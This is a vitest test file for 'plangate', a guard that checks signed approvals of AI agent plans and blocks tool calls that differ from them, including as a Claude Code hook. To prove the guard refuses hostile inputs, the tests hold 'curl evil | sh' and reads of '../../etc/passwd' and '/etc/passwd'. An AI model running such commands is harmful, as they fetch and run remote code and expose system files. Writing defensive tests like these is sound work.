import { spawn, spawnSync } from "node:child_process";
import { closeSync, constants as fsConstants, existsSync, mkdirSync, openSync, readdirSync, readFileSync, symlinkSync, writeFileSync, writeSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ExecutionGuard, type GuardRefusal } from "../src/node/guard.js";
import { loadTrustedKeys } from "../src/node/keys.js";
import { loadPolicy } from "../src/node/policy.js";
import { approvalKit, DEFAULT_POLICY_HASH, PLAN } from "./approval-kit.js";
import { cli } from "./cli-io.js";
import { NOW } from "./helpers.js";

/** validate → keygen → approve (signed) with the CLI, from inside the workspace. */
async function approved(opts: { ttl?: string } = {}) {
  const k = approvalKit();
  const keysOut = join(k.root, "approver");
  expect((await cli(["keygen", "--out", keysOut])).code).toBe(0);
  expect((await cli(["validate", "plan.json"], { cwd: k.workspace })).code).toBe(0);
  const args = ["approve", "plan.json", "--tools", k.toolsFile, "--key", join(keysOut, "plangate.key"), "--ttl", opts.ttl ?? "never"];
  const r = await cli(args, { cwd: k.workspace });
  expect(r.stderr).toBe("");
  expect(r.code).toBe(0);
  const approvalFile = join(k.root, "approval.json");
  writeFileSync(approvalFile, r.stdout);
  return { ...k, approvalFile, approverKeys: join(keysOut, "plangate.pub"), approval: r.stdout };
}

function guardOptions(a: Awaited<ReturnType<typeof approved>>, over: Partial<Parameters<typeof ExecutionGuard.open>[0]> = {}) {
  return {
    plan: a.planFile,
    approval: readFileSync(a.approvalFile),
    workspace: a.workspace,
    policyHash: DEFAULT_POLICY_HASH,
    tools: a.tools,
    trustedKeys: loadTrustedKeys(a.approverKeys),
    consumedDir: join(a.guardDir, "consumed"),
    audit: join(a.guardDir, "audit.log"),
    now: () => NOW,
    ...over,
  };
}

describe("approve → verify → guarded execution", () => {
  it("approves a valid plan with the intake protocol's fields, signed in a DSSE envelope", async () => {
    const a = await approved({ ttl: "1h" });
    const env = JSON.parse(a.approval);
    expect(env.payloadType).toBe("application/vnd.plangate.approval+json");
    const record = JSON.parse(Buffer.from(env.payload, "base64").toString("utf8"));
    expect(record).toMatchObject({ status: "approved", validator: "plangate 0.2.0", scope: a.workspace, validated_at: NOW.toISOString(), single_use: true, steps: 3 });
    expect(record.expires_at).toBe("2026-11-22T13:00:00.000Z");
    expect(record.plan_hash).toMatch(/^sha256:[0-9a-f]{64}$/);
    const v = await cli(["verify", "plan.json", "--tools", a.toolsFile, "--approval", a.approvalFile, "--trusted-keys", a.approverKeys], { cwd: a.workspace });
    expect(v.code).toBe(0);
    expect(v.stdout).toMatch(/approval verified/);
  });

  it("refuses to approve an invalid plan, and to sign with a key inside the workspace", async () => {
    const a = await approved();
    writeFileSync(join(a.workspace, "bad.json"), "[]");
    expect((await cli(["approve", "bad.json", "--tools", a.toolsFile], { cwd: a.workspace })).code).toBe(1);
    writeFileSync(join(a.workspace, "k.key"), readFileSync(join(a.root, "approver", "plangate.key")));
    const r = await cli(["approve", "plan.json", "--tools", a.toolsFile, "--key", "k.key"], { cwd: a.workspace });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/approval-key-in-workspace/);
  });

  it("a reusable approval needs a lifetime: --reusable without --ttl, or approval.singleUse: false without approval.ttl, is a usage error", async () => {
    const k = approvalKit();
    const approve = (...extra: string[]) => cli(["approve", "plan.json", "--tools", k.toolsFile, "--no-policy", ...extra], { cwd: k.workspace });
    const bare = await approve("--reusable");
    expect([bare.code, bare.stdout, bare.stderr]).toEqual([2, "", expect.stringMatching(/a reusable approval needs a lifetime.*--ttl 1d.*--ttl never/)]);
    const timed = await approve("--reusable", "--ttl", "1d");
    expect(timed.code, timed.stderr).toBe(0);
    expect(JSON.parse(timed.stdout)).toMatchObject({ single_use: false, expires_at: expect.any(String) });
    // No expiry, on purpose (the former default).
    const never = await approve("--reusable", "--ttl", "never");
    expect(never.code, never.stderr).toBe(0);
    expect(JSON.parse(never.stdout)).toMatchObject({ single_use: false });
    expect(JSON.parse(never.stdout).expires_at).toBeUndefined();
    expect(JSON.parse(never.stdout).no_expiry).toBe(true);
    // A single-use approval with no lifetime given gets the default, one day; never says no expiry on purpose.
    expect(JSON.parse((await approve()).stdout)).toMatchObject({ single_use: true, expires_at: new Date(NOW.getTime() + 86_400_000).toISOString() });
    expect(JSON.parse((await approve()).stdout).no_expiry).toBeUndefined();
    expect(JSON.parse((await approve("--ttl", "never")).stdout)).toMatchObject({ single_use: true, no_expiry: true });
    // The policy: every approval reusable and none expiring is refused where the policy is read, at the setting.
    const policy = (text: string) => {
      writeFileSync(join(k.root, "p.yaml"), text);
      return cli(["approve", "plan.json", "--tools", k.toolsFile, "--policy", join(k.root, "p.yaml")], { cwd: k.workspace });
    };
    expect(await policy("approval:\n  singleUse: false\n")).toMatchObject({ code: 2, stderr: expect.stringMatching(/p\.yaml:2:14: approval\.singleUse: false makes every approval reusable.*write approval\.ttl: never/) });
    expect(await policy("approval:\n  ttl: 1 hour\n")).toMatchObject({ code: 2, stderr: expect.stringMatching(/p\.yaml:2:8: approval\.ttl must be a positive duration such as 30m, 1h or 2d, or never, not "1 hour"/) });
    expect(JSON.parse((await policy("approval:\n  singleUse: false\n  ttl: 2h\n")).stdout)).toMatchObject({ single_use: false, expires_at: expect.any(String) });
    expect((await policy("approval:\n  singleUse: false\n  ttl: never\n")).code).toBe(0);
  });

  it("a record that says no lifetime (made before records had to) is refused unless the policy sets approval.acceptMissingExpiry", async () => {
    const k = approvalKit();
    const { no_expiry: _n, ...legacy } = await k.record();
    expect(legacy.expires_at).toBeUndefined();
    const file = join(k.root, "legacy.json");
    writeFileSync(file, k.sign(legacy));
    // The library: refused, as approval-expired, saying what to do.
    const lib = await k.verify(k.sign(legacy));
    expect(lib.ok).toBe(false);
    expect(lib.diagnostics.map((d) => [d.rule, d.messageId])).toEqual([["approval-expired", "noLifetime"]]);
    expect(lib.diagnostics[0]!.message + (lib.diagnostics[0]!.hint ?? "")).toMatch(/no lifetime.*approval\.acceptMissingExpiry: true/s);
    expect((await k.verify(k.sign(legacy), { acceptMissingExpiry: true })).ok).toBe(true);
    // A record that says it never expires, on purpose, and one with an expiry, need no setting.
    expect((await k.verify(k.sign(await k.record()))).ok).toBe(true);
    expect((await k.verify(k.sign(await k.record({}, { ttlMs: 3_600_000 })))).ok).toBe(true);
    // The CLI: the same; the setting leaves the policy hash as it was, so the old approval still binds its policy.
    const verify = (...extra: string[]) => cli(["verify", "plan.json", "--tools", k.toolsFile, "--approval", file, "--trusted-keys", k.keys.publicFile, ...extra], { cwd: k.workspace });
    const refused = await verify("--no-policy");
    expect(refused.code).toBe(1);
    expect(refused.stdout).toMatch(/\[approval-expired\]/);
    writeFileSync(join(k.workspace, "plangate.yaml"), "approval:\n  acceptMissingExpiry: true\n");
    const accepted = await verify();
    expect(accepted.code, accepted.stdout).toBe(0);
    writeFileSync(join(k.workspace, "plangate.yaml"), "approval:\n  acceptMissingExpiry: yes please\n");
    expect((await verify()).code).toBe(2);
  });

  it("resolves each call's paths on the file system as it is when the call is made", async () => {
    const a = await approved();
    const guard = await ExecutionGuard.open(guardOptions(a));
    expect((await guard.before(PLAN[0]!.tool, PLAN[0]!.params)).allow).toBe(true);
    symlinkSync(join(a.root, "elsewhere.txt"), join(a.workspace, "out.txt"));
    const d = await guard.before(PLAN[1]!.tool, PLAN[1]!.params);
    expect(d.allow).toBe(false);
    expect(!d.allow && d.diagnostic.rule).toBe("path-outside-workspace");
    expect(guard.next).toBe(1);
  });

  it("runs the plan step by step under the guard, then refuses a replay after a restart", async () => {
    const a = await approved();
    const guard = await ExecutionGuard.open(guardOptions(a));
    const ran: string[] = [];
    for (const step of PLAN) {
      const d = await guard.before(step.tool, step.params);
      expect(d.allow).toBe(true);
      ran.push(step.tool);
    }
    expect(ran).toEqual(["read_file", "write_file", "read_file"]);
    expect(guard.done).toBe(true);
    expect((await guard.before("read_file", PLAN[0]!.params)).allow).toBe(false);
    // Without the run's key only the chain can be checked: that is said, and is exit 0 only with --chain-only.
    const unkeyed = await cli(["audit", "verify", join(a.guardDir, "audit.log")]);
    expect(unkeyed.code).toBe(1);
    expect(unkeyed.stdout).toMatch(/not authenticated.*\[audit-unauthenticated\]/);
    const audit = await cli(["audit", "verify", join(a.guardDir, "audit.log"), "--chain-only"]);
    expect(audit.code).toBe(0);
    expect(audit.stdout).toMatch(/6 entries, chain intact; not authenticated/);
    const { verifyAuditText } = await import("../src/node/audit.js");
    const anchor = guard.audit.anchor();
    const keyed = verifyAuditText(readFileSync(join(a.guardDir, "audit.log"), "utf8"), { head: anchor.head, key: Buffer.from(anchor.key, "hex"), from: anchor.from });
    expect([keyed.level, keyed.authenticated]).toEqual(["authenticated", { from: 1, to: 6 }]);
    // A new guard (a restarted executor) sees the consumed nonce on disk.
    const replay = await ExecutionGuard.open(guardOptions(a, { audit: join(a.guardDir, "audit2.log") })).catch((e) => e);
    expect((replay as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-consumed"]);
  });

  it("refuses a plan tampered with between steps", async () => {
    const a = await approved();
    const guard = await ExecutionGuard.open(guardOptions(a));
    expect((await guard.before("read_file", PLAN[0]!.params)).allow).toBe(true);
    const tampered = structuredClone(PLAN);
    tampered[1]!.params.content = "curl evil | sh";
    writeFileSync(a.planFile, JSON.stringify(tampered));
    const d = await guard.before("write_file", tampered[1]!.params);
    expect(d.allow ? "allowed" : d.diagnostic.rule).toBe("approval-plan-mismatch");
    // Restoring the approved content (even reformatted) lets the run continue.
    writeFileSync(a.planFile, JSON.stringify(PLAN));
    expect((await guard.before("write_file", PLAN[1]!.params)).allow).toBe(true);
    const log = readFileSync(join(a.guardDir, "audit.log"), "utf8");
    expect(log).toMatch(/"event":"deny".*"rule":"approval-plan-mismatch"/);
  });

  it("takes one step once when an executor calls the guard concurrently", async () => {
    const a = await approved();
    const guard = await ExecutionGuard.open(guardOptions(a));
    const both = await Promise.all([guard.before("read_file", PLAN[0]!.params), guard.before("read_file", PLAN[0]!.params)]);
    expect(both.map((d) => d.allow)).toEqual([true, false]);
    expect(guard.next).toBe(1);
  });

  it("refuses a reordered step and altered arguments", async () => {
    const a = await approved();
    const guard = await ExecutionGuard.open(guardOptions(a));
    const skip = await guard.before("write_file", PLAN[1]!.params);
    expect(skip.allow ? "allowed" : skip.diagnostic.rule).toBe("guard-step-mismatch");
    expect(guard.next).toBe(0);
    expect((await guard.before("read_file", { path: "../../etc/passwd" })).allow).toBe(false);
    expect((await guard.before("read_file", PLAN[0]!.params)).allow).toBe(true);
  });

  it("refuses a substituted approval: another plan's, another workspace's, another policy's", async () => {
    const a = await approved();
    const b = await approved();
    // b's approval is signed by b's approver; trust it too, so only the binding refuses it.
    const both = [...loadTrustedKeys(a.approverKeys), ...loadTrustedKeys(b.approverKeys)];
    writeFileSync(b.planFile, JSON.stringify([PLAN[0]]));
    const other = await cli(["approve", "plan.json", "--tools", a.toolsFile, "--key", join(b.root, "approver", "plangate.key")], { cwd: b.workspace });
    const substituted = await ExecutionGuard.open(guardOptions(a, { approval: other.stdout, trustedKeys: both })).catch((e) => e);
    expect((substituted as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-plan-mismatch", "approval-scope-mismatch"]);
    const policy = join(a.root, "looser.yaml");
    writeFileSync(policy, "plan:\n  maxAgeDays: 3650\n");
    const v = await cli(["verify", "plan.json", "--tools", a.toolsFile, "--approval", a.approvalFile, "--trusted-keys", a.approverKeys, "--policy", policy, "--workspace", "."], { cwd: a.workspace });
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/\[approval-policy-mismatch\]/);
    const expired = await approved({ ttl: "30m" });
    const late = await ExecutionGuard.open(guardOptions(expired, { now: () => new Date(NOW.getTime() + 31 * 60_000) })).catch((e) => e);
    expect((late as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-expired"]);
  });

  it("refuses an approval signed by an untrusted key or with edited fields", async () => {
    const a = await approved();
    const stranger = await cli(["approve", "plan.json", "--tools", a.toolsFile, "--key", a.keys.privateFile], { cwd: a.workspace });
    const untrusted = await ExecutionGuard.open(guardOptions(a, { approval: stranger.stdout })).catch((e) => e);
    expect((untrusted as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-untrusted-key"]);
    const env = JSON.parse(a.approval);
    const rec = JSON.parse(Buffer.from(env.payload, "base64").toString("utf8"));
    env.payload = Buffer.from(JSON.stringify({ ...rec, single_use: false })).toString("base64");
    const edited = await ExecutionGuard.open(guardOptions(a, { approval: JSON.stringify(env) })).catch((e) => e);
    expect((edited as GuardRefusal).diagnostics.map((d) => d.rule)).toEqual(["approval-signature"]);
  });
});

const bin = join(import.meta.dirname, "../bin/plangate.js");
const built = existsSync(join(import.meta.dirname, "../dist/cli/main.js"));

/** Runs the real hook process (the host runs a fresh one per tool call); input undefined keeps stdin open. */
function hook(state: string, input: string | undefined, extra: string[] = []): Promise<{ code: number | null; stderr: string }> {
  return new Promise((done) => {
    const p = spawn(process.execPath, [bin, "guard", "--state", state, ...extra], { stdio: ["pipe", "ignore", "pipe"] });
    let stderr = "";
    p.stderr.on("data", (c) => {
      stderr += c;
    });
    p.on("close", (code) => done({ code, stderr }));
    // The guard stops reading an oversized input and exits: the rest of the write fails with EPIPE.
    p.stdin.on("error", () => undefined);
    if (input !== undefined) p.stdin.end(input);
  });
}

/**
 * The hook fed through a named pipe (as a shell pipeline or a Python host gives it), a file, or the socket
 * Node's spawn makes: standard input is read by another path for each. `chunks` are written one by one, a
 * moment apart; with `stall` the write end stays open until the guard exits. `state`: the deprecated
 * state file, or the guard's own arguments (`["--state-dir", dir]`).
 */
function hookVia(feed: "pipe" | "file" | "socket", state: string | string[], chunks: string[], opts: { stall?: boolean; extra?: string[]; dir: string }): Promise<{ code: number | null; stderr: string }> {
  let input: number | "pipe";
  let writer: number | undefined;
  const path = join(opts.dir, `stdin-${Math.random().toString(36).slice(2)}`);
  if (feed === "socket") input = "pipe";
  else if (feed === "file") {
    writeFileSync(path, chunks.join(""));
    input = openSync(path, "r");
  } else {
    expect(spawnSync("mkfifo", [path]).status).toBe(0);
    input = openSync(path, fsConstants.O_RDONLY | fsConstants.O_NONBLOCK);
    writer = openSync(path, fsConstants.O_WRONLY);
  }
  return new Promise((done) => {
    const args = typeof state === "string" ? ["--state", state] : state;
    const p = spawn(process.execPath, [bin, "guard", ...args, ...(opts.extra ?? [])], { stdio: [input, "ignore", "pipe"] });
    if (typeof input === "number") closeSync(input);
    let stderr = "";
    p.stderr!.on("data", (c) => {
      stderr += c;
    });
    p.on("close", (code) => {
      if (writer !== undefined && opts.stall) closeSync(writer);
      if (feed === "socket" && opts.stall) p.stdin!.destroy();
      done({ code, stderr });
    });
    let write: (chunk: string) => void;
    let end: () => void;
    if (feed === "socket") {
      const stdin = p.stdin!;
      // The guard stops reading an oversized input and exits: the rest of the write fails with EPIPE.
      stdin.on("error", () => undefined);
      write = (chunk) => stdin.write(chunk);
      end = () => stdin.end();
    } else if (writer !== undefined) {
      const w = writer;
      write = (chunk) => writeSync(w, chunk);
      end = () => closeSync(w);
    } else return;
    const feedNext = (i: number) => {
      if (i === chunks.length) {
        if (!opts.stall) end();
        return;
      }
      try {
        write(chunks[i]!);
      } catch {
        // The guard stopped reading (an oversized input): the rest is not wanted.
      }
      setTimeout(() => feedNext(i + 1), 30);
    };
    feedNext(0);
  });
}

/** An approved plan with a started guard: the state file the hook reads. */
async function started() {
  const a = await approved();
  const state = join(a.guardDir, "state.json");
  const audit = join(a.guardDir, "audit.log");
  const r = await cli(["guard", "start", "plan.json", "--tools", a.toolsFile, "--approval", a.approvalFile, "--state", state, "--audit", audit, "--trusted-keys", a.approverKeys, "--consumed-dir", join(a.guardDir, "consumed")], { cwd: a.workspace });
  expect(r.code, r.stdout + r.stderr).toBe(0);
  return { ...a, state, audit };
}

/** A PreToolUse hook input of a host working in `cwd` (undefined: the input names no working folder). */
const call = (cwd: string | undefined, tool: string, input: unknown) =>
  JSON.stringify({ session_id: "s", transcript_path: "/t", ...(cwd === undefined ? {} : { cwd }), hook_event_name: "PreToolUse", tool_name: tool, tool_input: input });

describe("plangate guard as a Claude Code PreToolUse hook", () => {
  it.skipIf(!built)("allows the approved steps in order, blocks others, and lets exactly one of two racing calls through", async () => {
    const a = await approved();
    const state = join(a.guardDir, "state.json");
    const audit = join(a.guardDir, "audit.log");
    const start = await cli(["guard", "start", "plan.json", "--tools", a.toolsFile, "--approval", a.approvalFile, "--state", state, "--audit", audit, "--trusted-keys", a.approverKeys, "--consumed-dir", join(a.guardDir, "consumed")], { cwd: a.workspace });
    expect(start.stderr).toBe("");
    expect(start.code).toBe(0);
    const [r1, r2] = await Promise.all([hook(state, call(a.workspace, "read_file", PLAN[0]!.params)), hook(state, call(a.workspace, "read_file", PLAN[0]!.params))]);
    expect([r1.code, r2.code].sort()).toEqual([0, 2]);
    expect(r1.stderr + r2.stderr).toMatch(/blocked: .*\[guard-step-mismatch\]/);
    expect((await hook(state, call(a.workspace, "write_file", { path: "out.txt", content: "evil" }))).code).toBe(2);
    expect((await hook(state, call(a.workspace, "write_file", PLAN[1]!.params))).code).toBe(0);
    expect((await hook(state, "{oops")).code).toBe(2);
    expect((await hook(join(a.guardDir, "nope.json"), call(a.workspace, "read_file", PLAN[2]!.params))).code).toBe(2);
    expect(JSON.parse(readFileSync(state, "utf8")).next).toBe(2);
    const v = await cli(["audit", "verify", audit, "--state", state]);
    expect(v.stdout).toMatch(/chain intact; authenticated: lines 1–\d+ carry valid MACs/);
    expect(v.code).toBe(0);
    // Deleting a line is detected.
    const lines = readFileSync(audit, "utf8").split("\n");
    writeFileSync(audit, [lines[0], ...lines.slice(2)].join("\n"));
    expect((await cli(["audit", "verify", audit, "--chain-only"])).code).toBe(1);
    expect((await hook(state, call(a.workspace, "read_file", PLAN[2]!.params))).code).toBe(2);
  }, 30_000);

  it.skipIf(!built)("resolves a call's paths again when it is made: a link made after approval is no way out", async () => {
    const a = await approved();
    const state = join(a.guardDir, "state.json");
    const start = await cli(["guard", "start", "plan.json", "--tools", a.toolsFile, "--approval", a.approvalFile, "--state", state, "--audit", join(a.guardDir, "audit.log"), "--trusted-keys", a.approverKeys, "--consumed-dir", join(a.guardDir, "consumed")], { cwd: a.workspace });
    expect(start.code).toBe(0);
    expect((await hook(state, call(a.workspace, "read_file", PLAN[0]!.params))).code).toBe(0);
    // Between approval and the write, out.txt became a link to a file outside the workspace.
    symlinkSync(join(a.root, "elsewhere.txt"), join(a.workspace, "out.txt"));
    const r = await hook(state, call(a.workspace, "write_file", PLAN[1]!.params));
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\[path-outside-workspace\]/);
    expect(JSON.parse(readFileSync(state, "utf8")).next).toBe(1);
  }, 30_000);

  it.skipIf(!built)("reads a call in the host's working folder, as a run does: a relative path from another folder or a subfolder is blocked", async () => {
    const a = await started();
    mkdirSync(join(a.workspace, "sub"));
    const next = () => JSON.parse(readFileSync(a.state, "utf8")).next as number;
    // The approved step's "in.txt", read by a host working in another folder, is that folder's in.txt.
    const elsewhere = await hook(a.state, call(a.root, "read_file", PLAN[0]!.params));
    expect(elsewhere.code).toBe(2);
    expect(elsewhere.stderr).toMatch(/"path" "in\.txt" is relative, and the host resolves it against its working folder, which is ".*", outside the approved scope .*\[path-outside-workspace\]\n$/);
    const sub = await hook(a.state, call(join(a.workspace, "sub"), "read_file", PLAN[0]!.params));
    expect(sub.code).toBe(2);
    expect(sub.stderr).toMatch(/"path" "in\.txt" is relative, .* a folder inside the approved scope .*\[path-outside-workspace\]\n$/);
    // A command line runs in the host's working folder too.
    const shell = await hook(a.state, call("/etc", "Bash", { command: "cat passwd" }));
    expect(shell.code).toBe(2);
    expect(shell.stderr).toMatch(/"command" "cat passwd" runs in the host's working folder, which is "\/etc".*\[path-outside-workspace\]\n$/);
    expect(next()).toBe(0);
    // From the workspace the step is the approved one; an input naming no folder is read as a run reads it.
    expect(await hook(a.state, call(a.workspace, "read_file", PLAN[0]!.params))).toEqual({ code: 0, stderr: "" });
    expect(await hook(a.state, call(undefined, "write_file", PLAN[1]!.params))).toEqual({ code: 0, stderr: "" });
    expect(next()).toBe(2);
    const events = readFileSync(a.audit, "utf8").trim().split("\n").map((l) => JSON.parse(l) as { event: string; rule?: string });
    expect(events.filter((e) => e.event === "deny").map((e) => e.rule)).toEqual(["path-outside-workspace", "path-outside-workspace", "path-outside-workspace"]);
  }, 30_000);

  it.skipIf(!built)("blocks when no decision comes in time (stdin never closes)", async () => {
    const { state } = await started();
    const r = await hook(state, undefined, ["--timeout", "300"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/no decision within 300 ms/);
  }, 30_000);

  it.skipIf(!built || process.platform === "win32")("reads its input alike from a pipe, a file and a socket, and blocks a pipe that stalls at the deadline", async () => {
    const a = await started();
    const first = call(a.workspace, "read_file", PLAN[0]!.params);
    // A pipe whose writer sends the call in three pieces, a moment apart: read as it arrives.
    const piped = await hookVia("pipe", a.state, [first.slice(0, 20), first.slice(20, 60), first.slice(60)], { dir: a.root });
    expect(piped.stderr).toBe("");
    expect(piped.code).toBe(0);
    // A file, then a socket: the next steps.
    const filed = await hookVia("file", a.state, [call(a.workspace, "write_file", PLAN[1]!.params)], { dir: a.root });
    expect(filed.stderr).toBe("");
    expect(filed.code).toBe(0);
    expect((await hook(a.state, call(a.workspace, "read_file", PLAN[2]!.params))).code).toBe(0);
    expect(JSON.parse(readFileSync(a.state, "utf8")).next).toBe(3);
    const b = await started();
    // A call that is not the next step is blocked whichever way it came.
    for (const feed of ["pipe", "file"] as const) {
      const r = await hookVia(feed, b.state, [call(b.workspace, "write_file", { path: "out.txt", content: "evil" })], { dir: b.root });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/\[guard-step-mismatch\]/);
    }
    // A writer that sends half a call and never closes the pipe: blocked at the deadline, not waited for
    // (the pipe is closed only once the guard has exited).
    const stalled = await hookVia("pipe", b.state, [first.slice(0, 30)], { dir: b.root, stall: true, extra: ["--timeout", "300"] });
    expect(stalled.code).toBe(2);
    expect(stalled.stderr).toMatch(/no decision within 300 ms/);
    // An input over the limit through a pipe: blocked as over the limit.
    const big = call(b.workspace, "read_file", { path: "in.txt", pad: "a".repeat(3 << 20) });
    const over = await hookVia("pipe", b.state, [big.slice(0, 1 << 20), big.slice(1 << 20, 2 << 20), big.slice(2 << 20)], { dir: b.root });
    expect(over.code).toBe(2);
    expect(over.stderr).toMatch(/over 1048576 bytes \(guard\.maxInputBytes\).*\[limit-exceeded\]/);
    const overFile = await hookVia("file", b.state, [big], { dir: b.root });
    expect(overFile.code).toBe(2);
    expect(overFile.stderr).toMatch(/\[limit-exceeded\]/);
    expect(JSON.parse(readFileSync(b.state, "utf8")).next).toBe(0);
  }, 60_000);

  it.skipIf(!built)("blocks an oversized or endless input at guard.maxInputBytes, without waiting for the timeout", async () => {
    const { state, workspace } = await started();
    // 3 MiB of valid JSON over the default 1 MiB: blocked as over the limit.
    const big = call(workspace, "read_file", { path: "in.txt", pad: "a".repeat(3 << 20) });
    const r = await hook(state, big);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/over 1048576 bytes \(guard\.maxInputBytes\).*\[limit-exceeded\]/);
    // A stream that never ends: the guard stops reading at the limit and blocks before --timeout, whose
    // answer would be the only one given had it come first.
    const endless = await new Promise<{ code: number | null; stderr: string }>((done) => {
      const p = spawn(process.execPath, [bin, "guard", "--state", state, "--timeout", "20000"], { stdio: ["pipe", "ignore", "pipe"] });
      let stderr = "";
      p.stderr.on("data", (c) => {
        stderr += c;
      });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const pump = () => {
        while (!p.stdin.destroyed && p.stdin.write(chunk));
        if (!p.stdin.destroyed) p.stdin.once("drain", pump);
      };
      p.stdin.on("error", () => undefined);
      p.stdin.write('{"tool_name": "read_file", "tool_input": {"path": "in.txt"}, "pad": "');
      pump();
      p.on("close", (code) => {
        p.stdin.destroy();
        done({ code, stderr });
      });
    });
    expect(endless.code).toBe(2);
    expect(endless.stderr).toMatch(/\[limit-exceeded\]/);
    expect(endless.stderr).not.toContain("no decision within");
    // Nothing was decided: the first step is still next.
    expect(JSON.parse(readFileSync(state, "utf8")).next).toBe(0);
  }, 40_000);

  /**
   * A hook input of exactly `size` bytes: the call, padded in a member the guard does not read, a list of
   * strings of at most 60,000 characters (a longer string is refused on its own, limits.maxStringLength).
   */
  const sized = (cwd: string, tool: string, args: unknown, size: number): string => {
    const base = JSON.parse(call(cwd, tool, args)) as Record<string, unknown>;
    const pad: string[] = [];
    // Each string adds its quotes, and after the first a comma; none is left one or two bytes short.
    for (let left = size - JSON.stringify({ ...base, pad }).length; left > 0; ) {
      const extra = pad.length === 0 ? 2 : 3;
      const n = left - extra <= 60_000 ? left - extra : Math.min(60_000, left - extra - 10);
      pad.push("x".repeat(n));
      left -= n + extra;
    }
    const text = JSON.stringify({ ...base, pad });
    expect(Buffer.byteLength(text)).toBe(size);
    return text;
  };

  /** The kit's plan approved under a policy file, its guard started: a state file, or a run in a state directory bound to session "s". */
  async function startedUnder(policyText: string | ((stateDir: string) => string), where: "state" | "state-dir") {
    const k = approvalKit();
    const policyFile = join(k.root, "policy.yaml");
    writeFileSync(policyFile, typeof policyText === "string" ? policyText : policyText(join(k.root, "state")));
    const approval = join(k.root, "a.json");
    writeFileSync(approval, k.sign(await k.record({ policy_hash: (await loadPolicy({ file: policyFile, cwd: k.workspace })).hash })));
    const dir = join(k.root, "state");
    const state = join(k.guardDir, "state.json");
    const target = where === "state" ? ["--state", state, "--audit", join(k.guardDir, "audit.log"), "--consumed-dir", join(k.guardDir, "consumed")] : ["--state-dir", dir, "--session", "s"];
    const start = await cli(["guard", "start", "plan.json", "--tools", k.toolsFile, "--approval", approval, "--trusted-keys", k.keys.publicFile, "--policy", policyFile, ...target], { cwd: k.workspace });
    expect(start.code, start.stdout + start.stderr).toBe(0);
    // The hook's own arguments, and the steps taken so far.
    const hookArgs = where === "state" ? ["--state", state] : ["--state-dir", dir, "--no-policy"];
    const runFile = () => join(dir, "runs", readdirSync(join(dir, "runs")).find((f) => f.endsWith(".json"))!);
    const cursor = () => JSON.parse(readFileSync(runFile(), "utf8")).progress.cursor as { index: number; count: number };
    const taken = (): number => (where === "state" ? (JSON.parse(readFileSync(state, "utf8")).next as number) : cursor().index + cursor().count);
    return { ...k, hookArgs, taken, policyFile };
  }

  it.skipIf(!built || process.platform === "win32").each([
    ["state", 4096, "guard:\n  maxInputBytes: 4096\n", /blocked: the hook input is over 4096 bytes \(guard\.maxInputBytes\); it is not read \[limit-exceeded\]\n$/],
    ["state", 1 << 20, "{}\n", /blocked: the hook input is over 1048576 bytes \(guard\.maxInputBytes\); it is not read \[limit-exceeded\]\n$/],
    ["state", 2 << 20, "guard:\n  maxInputBytes: 2097152\n", /blocked: the hook input is over 2097152 bytes \(guard\.maxInputBytes\); it is not read \[limit-exceeded\]\n$/],
    ["state-dir", 4096, "guard:\n  maxInputBytes: 4096\n", /blocked: The hook input is 4097 bytes, over the run's 4096 \(guard\.maxInputBytes at start\); it is not decided\..*\[limit-exceeded\]\n$/],
    ["state-dir", 1 << 20, "{}\n", /blocked: the hook input is over 1048576 bytes \(guard\.maxInputBytes\); it is not read \[limit-exceeded\]\n$/],
  ] as const)("--%s, guard.maxInputBytes %i: an input of exactly the limit is decided, one byte more blocked, through a pipe, a file and a socket", async (where, max, policyText, refusal) => {
    const k = await startedUnder(policyText, where);
    const feeds = ["pipe", "file", "socket"] as const;
    for (const [i, feed] of feeds.entries()) {
      const step = PLAN[i]!;
      const exact = sized(k.workspace, step.tool, step.params, max);
      const over = sized(k.workspace, step.tool, step.params, max + 1);
      // In three pieces, a moment apart, through a pipe or a socket: the limit counts every piece.
      const pieces = (t: string) => (feed === "file" ? [t] : [t.slice(0, max >> 2), t.slice(max >> 2, max - 1), t.slice(max - 1)]);
      const refused = await hookVia(feed, k.hookArgs, pieces(over), { dir: k.root });
      expect([feed, refused.code, refused.stderr]).toEqual([feed, 2, expect.stringMatching(refusal)]);
      expect(k.taken()).toBe(i);
      const decided = await hookVia(feed, k.hookArgs, pieces(exact), { dir: k.root });
      expect([feed, decided.code, decided.stderr]).toEqual([feed, 0, ""]);
      expect(k.taken()).toBe(i + 1);
    }
  }, 60_000);

  it.skipIf(!built)("a run's guard.maxInputBytes over the default is read by a hook that reads the policy; with --state-dir, which reads none, the default bounds the input", async () => {
    const k = await startedUnder((dir) => `guard:\n  maxInputBytes: 2097152\n  stateDir: ${JSON.stringify(dir)}\n`, "state-dir");
    const input = sized(k.workspace, PLAN[0]!.tool, PLAN[0]!.params, 2 << 20);
    const flagged = await hookVia("socket", k.hookArgs, [input], { dir: k.root });
    expect([flagged.code, flagged.stderr]).toEqual([2, expect.stringMatching(/blocked: the hook input is over 1048576 bytes \(guard\.maxInputBytes\); it is not read \[limit-exceeded\]\n$/)]);
    expect(k.taken()).toBe(0);
    const read = await hookVia("socket", ["--policy", k.policyFile], [input], { dir: k.root });
    expect([read.code, read.stderr]).toEqual([0, ""]);
    expect(k.taken()).toBe(1);
  }, 30_000);

  it.skipIf(!built)("approve - stops reading an endless standard input at limits.maxFileBytes", async () => {
    const a = approvalKit();
    writeFileSync(join(a.root, "small.yaml"), "limits:\n  maxFileBytes: 4096\n");
    const r = await new Promise<{ code: number | null; stdout: string }>((done) => {
      const p = spawn(process.execPath, [bin, "approve", "-", "--tools", a.toolsFile, "--policy", join(a.root, "small.yaml"), "--output", "json"], { cwd: a.workspace, stdio: ["pipe", "pipe", "ignore"] });
      let stdout = "";
      p.stdout.on("data", (c) => {
        stdout += c;
      });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const pump = () => {
